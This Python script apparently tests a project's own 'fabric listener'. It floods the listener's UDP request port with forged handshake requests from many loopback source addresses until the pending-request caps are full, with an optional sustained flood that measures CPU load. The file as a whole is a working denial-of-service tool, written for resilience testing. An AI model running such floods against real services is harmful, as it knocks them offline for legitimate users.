"""Floods a fabric listener's request port (the UDP twin of a TCP listener, fabric/
stream_listen.cc) with well-formed REQs that no TCP connection ever follows, as any local
user (or any host that reaches the port) can.

Each REQ is what a real client sends before its SYN (fabric/stream_wire.h; the bytes are
written out here independently of fabric/stream_wire.cc, as in
../../integration/progs/fabric_forge.py): magic, version, type REQ, the ring's log2
(--ring-log2, the listener's own SLIP_RING_SIZE by default: 1 MiB), the address length, a
nonce, the TCP 4-tuple (client 127.0.0.S:P -> 127.0.0.1:--port, a client port of its own
for every REQ), a ring key, address and note tag of the attacker's invention, the notes'
form and the endpoints' type the listener expects (--endpoints msg: connected endpoints,
30-bit cursor notes, no address; rdm: reliable datagrams, cursor words and 4-byte
doorbells, and an endpoint address the tcp provider's address vector takes: a sockaddr_in
of 127.0.0.1's discard port). Each comes from the client address it names (a UDP socket
bound to 127.0.0.S), as the listener requires, so every one is answered and kept pending
(30 s) until the listener's caps: 64 per source address and 1024 per listener on the tree
this was written against.

--sources N source addresses 127.0.0.(--first-source) .. , --per-source M REQs from each,
sent in rounds of one REQ per source, each round's answers read before the next (for
--answer-wait s at most; a REP that is not read costs the attacker nothing, but counting
them shows what the listener kept). --duration S: then keep sending fresh REQs as fast as
it can for S more seconds (answers read as they come, counted apart: the CPU the listener
spends on a sustained flood), "SUSTAINED" printed when that starts.

Prints "FLOODED" once the rounds are done, then one JSON line:
{"uid", "sent", "rep", "refuse", "silent", "other", "sustained_sent",
"sustained_answers": {"rep", "refuse", "other"}, "seconds"}.
"""

import argparse
import json
import os
import random
import select
import socket
import struct
import time

MAGIC = 0x53464C53
VERSION = 1
REQ = 1
NOTE_WORDS = 4          # cursor words and 4-byte doorbells (reliable datagrams)
NOTE_LINK_CURSOR = 30   # 30-bit cursor notes (connected endpoints, rings up to 256 MiB)
ENDPOINTS = {"rdm": 1, "msg": 2}
LISTENER = "127.0.0.1"


def report(**fields):
    print(json.dumps(fields), flush=True)


def endpoint(address, port):
    """wire::Endpoint: family 4, a zero byte, the port (little-endian), 16 address bytes."""
    return struct.pack("<BBH16s", 4, 0, port, socket.inet_aton(address))


def req(client, server_port, nonce, endpoints, ring_log2, rng):
    if endpoints == "msg":
        address, note_bytes = b"", NOTE_LINK_CURSOR
    else:
        address = struct.pack("<H", socket.AF_INET) + struct.pack(">H", 9) + \
            socket.inet_aton("127.0.0.1") + bytes(8)
        note_bytes = NOTE_WORDS
    message = struct.pack("<IBBBBQ", MAGIC, VERSION, REQ, ring_log2, len(address), nonce)
    message += endpoint(*client) + endpoint(LISTENER, server_port)
    ring_key, ring_addr = rng.getrandbits(64), 0x7F0000000000 + (rng.getrandbits(20) << 12)
    note_tag = rng.randrange(1, 1 << 24)
    message += struct.pack("<QQIBBH", ring_key, ring_addr, note_tag, note_bytes,
                           ENDPOINTS[endpoints], 0)
    message += address + bytes(64 - len(address))
    assert len(message) == 144
    return message


def answer_type(data):
    if len(data) != 144 or struct.unpack_from("<I", data)[0] != MAGIC:
        return "other"
    return {2: "rep", 3: "refuse"}.get(data[5], "other")


def main():
    parser = argparse.ArgumentParser(description=__doc__,
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--endpoints", choices=sorted(ENDPOINTS), default="msg")
    parser.add_argument("--sources", type=int, default=20)
    parser.add_argument("--first-source", type=int, default=2)
    parser.add_argument("--per-source", type=int, default=64)
    parser.add_argument("--ring-log2", type=int, default=20)
    parser.add_argument("--answer-wait", type=float, default=0.2)
    parser.add_argument("--duration", type=float, default=0.0)
    parser.add_argument("--seed", type=int, default=1)
    args = parser.parse_args()
    rng = random.Random(args.seed)
    started = time.monotonic()
    socks = []
    for i in range(args.sources):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 20)
        s.bind((f"127.0.0.{args.first_source + i}", 0))
        s.connect((LISTENER, args.port))
        socks.append(s)
    counts = {"rep": 0, "refuse": 0, "other": 0}
    sent = 0
    next_port = [20000 + rng.randrange(20000) for _ in socks]

    def fresh(i):
        # A client port of its own for every REQ: one request per 4-tuple is what the
        # listener keeps.
        next_port[i] = 20000 + (next_port[i] - 20000 + 1) % 40000
        address = f"127.0.0.{args.first_source + i}"
        return req((address, next_port[i]), args.port, rng.getrandbits(64), args.endpoints,
                   args.ring_log2, rng)

    poller = select.poll()
    by_fd = {s.fileno(): s for s in socks}
    for s in socks:
        s.setblocking(False)
        poller.register(s, select.POLLIN)
    for _ in range(args.per_source):
        for i, s in enumerate(socks):
            s.send(fresh(i))
            sent += 1
        # This round's answers, for --answer-wait s at most (a listener that stops
        # answering must not make the flood last for ever).
        waiting = set(by_fd)
        until = time.monotonic() + args.answer_wait
        while waiting and time.monotonic() < until:
            for fd, _ in poller.poll(max(1, int((until - time.monotonic()) * 1000))):
                try:
                    counts[answer_type(by_fd[fd].recv(1024))] += 1
                except (BlockingIOError, ConnectionRefusedError):
                    pass
                waiting.discard(fd)
    print("FLOODED", flush=True)
    sustained = 0
    sustained_answers = {"rep": 0, "refuse": 0, "other": 0}
    if args.duration > 0:
        print("SUSTAINED", flush=True)
        until = time.monotonic() + args.duration
        while time.monotonic() < until:
            for i, s in enumerate(socks):
                try:
                    s.send(fresh(i))
                    sustained += 1
                except (BlockingIOError, ConnectionRefusedError):
                    pass
                try:
                    while True:  # (answers left unread would fill our buffer)
                        sustained_answers[answer_type(s.recv(1024))] += 1
                except (BlockingIOError, ConnectionRefusedError):
                    pass
    report(uid=os.getuid(), sent=sent, rep=counts["rep"], refuse=counts["refuse"],
           other=counts["other"], silent=sent - sum(counts.values()),
           sustained_sent=sustained, sustained_answers=sustained_answers,
           seconds=round(time.monotonic() - started, 2))


if __name__ == "__main__":
    main()
